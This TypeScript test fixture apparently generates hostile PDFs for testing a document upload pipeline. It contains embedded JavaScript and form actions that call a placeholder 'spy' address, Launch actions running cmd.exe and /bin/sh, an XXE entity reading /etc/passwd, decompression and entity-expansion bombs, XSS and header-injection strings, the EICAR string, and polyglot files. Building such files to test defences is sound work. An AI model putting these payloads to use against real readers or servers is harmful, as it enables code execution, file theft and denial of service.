import { deflateSync } from 'node:zlib'
import fc from 'fast-check'
import { onePage, pdfOf, streamOf } from './pdf-by-hand.ts'

/** A file that somebody sends to do harm, or that is broken; and what must not be taken: refused whatever else is so. */
export interface HostileFile {
  name: string
  bytes: Buffer
  /** Must be refused; otherwise it may be stored, and then does nothing. */
  refused?: boolean
}

const MB = 1024 * 1024
const SCRIPT = "app.alert('x');this.submitForm('URL');app.launchURL('URL')"

/** Actions that a reader may run by itself: scripts, programs, forms sent away, files and addresses opened. */
function actions(spy: string): Record<string, string> {
  return {
    'a script': `<</S/JavaScript/JS(${SCRIPT.replaceAll('URL', spy)})>>`,
    'a script in hexadecimal': `<</S/JavaScript/JS<${Buffer.from(SCRIPT.replaceAll('URL', spy)).toString('hex')}>>>`,
    'a script with a name in escapes': `<</S/#4a#61#76#61Script/JS(${SCRIPT.replaceAll('URL', spy)})>>`,
    'a program of Windows': '<</S/Launch/F(cmd.exe)/Win<</F(cmd.exe)/P(/c calc.exe)>>>>',
    'a program of Unix': '<</S/Launch/F(/bin/sh)/Unix(sh -c id)>>',
    'a form sent away': `<</S/SubmitForm/F(${spy})/Flags 4>>`,
    'data taken in': `<</S/ImportData/F(${spy}/data.fdf)>>`,
    'an address': `<</S/URI/URI(${spy})>>`,
    'an address of a script': '<</S/URI/URI(javascript:alert\\(1\\))>>',
    'a file elsewhere': `<</S/GoToR/F<</FS/URL/F(${spy}/a.pdf)>>/D[0/Fit]>>`,
    'a file on a share': '<</S/GoToR/F(\\\\\\\\127.0.0.1\\\\share\\\\a.pdf)/D[0/Fit]>>',
    'an embedded file': '<</S/GoToE/T<</R/C/N(evil)>>/D[0/Fit]>>',
    'a film': `<</S/Rendition/OP 0/R<</S/MR/C<</S/MCD/D<</FS/URL/F(${spy}/film.swf)>>>>>>>>`,
    'a chain of actions': `<</S/URI/URI(${spy})/Next[6 0 R 6 0 R]>>`,
  }
}

/** Where an action hangs. */
const hooks: Readonly<Record<string, { catalogue?: string; page?: string }>> = {
  'when opened': { catalogue: '/OpenAction 6 0 R' },
  'when closed or printed': { catalogue: '/AA<</WC 6 0 R/WP 6 0 R/DP 6 0 R>>' },
  'when a page is shown': { page: '/AA<</O 6 0 R/C 6 0 R>>' },
  'by its name': { catalogue: '/Names<</JavaScript<</Names[(a)6 0 R]>>>>' },
  'in a note': { page: '/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 612 792]/A 6 0 R>>]' },
  'in a field': {
    catalogue: '/AcroForm<</Fields[<</FT/Tx/T(a)/AA<</K 6 0 R/C 6 0 R>>/Rect[0 0 9 9]/Subtype/Widget>>]>>',
  },
}

function acting(spy: string): HostileFile[] {
  return Object.entries(actions(spy)).flatMap(([action, body]) =>
    Object.entries(hooks).map(([hook, where]) => ({
      name: `${action}, ${hook}`,
      bytes: onePage({ ...where, more: [body] }),
    })),
  )
}

const zeros = (megabytes: number) => deflateSync(Buffer.alloc(megabytes * MB))
const nested = (text: string, count: number) => text.repeat(count)

/** Files that unpack, point or nest without end. */
function bombs(): HostileFile[] {
  const twice = deflateSync(zeros(400))
  return [
    { name: 'content of 300 MB', bytes: onePage({ content: streamOf(zeros(300), '/Filter/FlateDecode') }) },
    {
      name: 'content packed twice',
      bytes: onePage({ content: streamOf(twice, '/Filter[/FlateDecode/FlateDecode]') }),
    },
    {
      name: 'objects in a stream of 300 MB',
      bytes: onePage({ more: [streamOf(zeros(300), '/Type/ObjStm/N 9999999/First 9/Filter/FlateDecode')] }),
    },
    {
      name: 'a table of places of 300 MB',
      bytes: onePage({
        more: [streamOf(zeros(300), '/Type/XRef/W[1 9 9]/Size 99999999/Filter/FlateDecode')],
      }),
    },
    {
      name: 'a picture of 60,000 by 60,000',
      bytes: onePage({
        page: '/Thumb 6 0 R',
        more: [
          streamOf(
            zeros(1),
            '/Type/XObject/Subtype/Image/Width 60000/Height 60000/ColorSpace/DeviceRGB/BitsPerComponent 8/Filter/FlateDecode',
          ),
        ],
      }),
    },
    { name: 'lists within lists', bytes: onePage({ catalogue: `/X ${nested('[', 100_000)}` }) },
    {
      name: 'dictionaries within dictionaries',
      bytes: onePage({ catalogue: `/X ${nested('<</X ', 50_000)}` }),
    },
    {
      name: 'whole lists within lists',
      bytes: onePage({ catalogue: `/X ${nested('[', 20_000)}${nested(']', 20_000)}` }),
    },
    {
      name: 'operators without end',
      bytes: onePage({ content: streamOf(Buffer.from(nested('q ', 2 * MB))) }),
    },
    {
      name: 'paths without end',
      bytes: onePage({ content: streamOf(Buffer.from(nested('0 0 m 9 9 l S ', MB / 4))) }),
    },
    {
      name: 'a form that draws itself',
      bytes: onePage({
        page: '/Resources<</XObject<</X 6 0 R>>>>',
        content: streamOf(Buffer.from('/X Do')),
        more: [
          streamOf(
            Buffer.from('/X Do '.repeat(50)),
            '/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 6 0 R>>>>',
          ),
        ],
      }),
    },
    {
      name: 'ten thousand names for one page',
      bytes: pdfOf([
        '<</Type/Catalog/Pages 2 0 R>>',
        `<</Type/Pages/Kids[${nested('3 0 R ', 10_000)}]/Count 10000>>`,
        '<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>',
      ]),
    },
    {
      name: 'pages that are their own parents',
      refused: true,
      bytes: pdfOf(['<</Type/Catalog/Pages 2 0 R>>', '<</Type/Pages/Kids[2 0 R]/Count 1/Parent 2 0 R>>']),
    },
    {
      name: 'pages in a ring',
      refused: true,
      bytes: pdfOf([
        '<</Type/Catalog/Pages 2 0 R>>',
        '<</Type/Pages/Kids[3 0 R]/Count 1>>',
        '<</Type/Pages/Kids[2 0 R]/Count 1>>',
      ]),
    },
    {
      name: 'a length that points to itself',
      bytes: pdfOf([
        '<</Type/Catalog/Pages 2 0 R>>',
        '<</Type/Pages/Kids[]/Count 0>>',
        '<</Length 3 0 R>>\nstream\nx\nendstream',
      ]),
      refused: true,
    },
    { name: 'a table of places before itself', bytes: onePage({ trailer: '/Prev 9' }) },
    {
      name: 'numbers beyond every measure',
      bytes: onePage({ page: `/MediaBox[0 0 1e308 ${nested('9', 400)}]/Rotate 99999999999999999999` }),
    },
    {
      name: 'a font with a script for a matrix',
      bytes: onePage({ more: ['<</Type/Font/Subtype/Type1/FontMatrix[1 2 3 4 5 (0\\); alert\\(1\\)//)]>>'] }),
    },
    {
      name: 'a form in XML that reads files',
      bytes: onePage({
        catalogue: '/AcroForm<</XFA 6 0 R/Fields[]>>',
        more: [
          streamOf(
            Buffer.from(
              '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
            ),
          ),
        ],
      }),
    },
    {
      name: 'a description in XML without end',
      bytes: onePage({
        catalogue: '/Metadata 6 0 R',
        more: [
          streamOf(
            Buffer.from(
              `<!DOCTYPE x [${Array.from({ length: 9 }, (_, at) => `<!ENTITY e${at + 1} "${nested(`&e${at};`, 9)}">`).join('')}]><x>&e9;</x>`,
            ),
            '/Type/Metadata/Subtype/XML',
          ),
        ],
      }),
    },
    {
      name: 'a title that is a page of HTML',
      bytes: onePage({
        more: ['<</Title(<img src=x onerror=alert\\(1\\)>)/Author(\\r\\nBcc: all@conference.example)>>'],
        trailer: '/Info 6 0 R',
      }),
    },
    {
      name: 'the file that scanners are tried with',
      bytes: onePage({
        catalogue: '/Names<</EmbeddedFiles<</Names[(eicar.com)<</F(eicar.com)/EF<</F 6 0 R>>>>]>>>>',
        more: [
          streamOf(Buffer.from('X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*')),
        ],
      }),
    },
  ]
}

/** Other kinds of files under a PDF's name, and files that are two kinds at once. */
function disguised(): HostileFile[] {
  const pdf = onePage({})
  const others: Record<string, string> = {
    'a page of HTML': '<!doctype html><script>alert(1)</script>',
    'a drawing with a script': '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    'a program of Windows': 'MZ\x90\x00\x03',
    'a program of Unix': '\x7fELF\x02\x01\x01',
    'a shell script': '#!/bin/sh\nid\n',
    'a zip': 'PK\x03\x04\x14\x00',
    PostScript: '%!PS-Adobe-3.0\n(/etc/passwd) (r) file\n',
    nothing: '',
    'a header alone': '%PDF-1.7\n',
    'a header and an end': '%PDF-1.7\nstartxref\n0\n%%EOF\n',
    'a kilobyte of zeros': '\x00'.repeat(1024),
  }
  const fronts: Record<string, string> = {
    'a page of HTML': '<html><script>alert(1)</script><!--',
    'a picture': 'GIF89a/*',
    'a script': '/*',
    'a zip': 'PK\x03\x04',
    'a mail': 'From: a@b.example\r\n\r\n',
  }
  return [
    ...Object.entries(others).map(([name, text]) => ({
      name,
      bytes: Buffer.from(text, 'latin1'),
      refused: true,
    })),
    ...Object.entries(fronts).map(([name, text]) => ({
      name: `a PDF that begins as ${name}`,
      bytes: Buffer.concat([Buffer.from(text, 'latin1'), pdf]),
    })),
    ...[1, 2, 4, 5, 6].map((revision) => ({
      name: `encrypted, version ${revision}`,
      refused: true,
      bytes: onePage({
        trailer: `/Encrypt<</Filter/Standard/V ${revision}/R ${revision}/O(x)/U(x)/P -1/Length 128>>/ID[(a)(b)]`,
      }),
    })),
    {
      name: 'encrypted by a key that is not there',
      refused: true,
      bytes: onePage({ trailer: '/Encrypt 99 0 R' }),
    },
  ]
}

/** A whole file cut off or with some bytes changed, by chance from a seed. */
function broken(seed: number, whole: Buffer): HostileFile[] {
  const [cuts, changes] = fc.sample(
    fc.tuple(
      fc.array(fc.integer({ min: 0, max: whole.length - 40 }), { minLength: 60, maxLength: 60 }),
      fc.array(
        fc.array(fc.tuple(fc.integer({ min: 8, max: whole.length - 1 }), fc.integer({ min: 0, max: 255 })), {
          minLength: 1,
          maxLength: 30,
        }),
        { minLength: 90, maxLength: 90 },
      ),
    ),
    { seed, numRuns: 1 },
  )[0] ?? [[], []]
  const truncated = cuts.map((at) => ({
    name: `cut off at ${at}`,
    bytes: whole.subarray(0, at),
    refused: true,
  }))
  const changed = changes.map((places, at) => {
    const bytes = Buffer.from(whole)
    for (const [place, value] of places) bytes[place] = value
    return { name: `changed, ${at}`, bytes }
  })
  return [...truncated, ...changed]
}

/** All of them; `spy` is an address that must never be asked, `whole` a PDF that is well. */
export function hostilePdfs(seed: number, spy: string, whole: Buffer): HostileFile[] {
  return [...acting(spy), ...bombs(), ...disguised(), ...broken(seed, whole)]
}
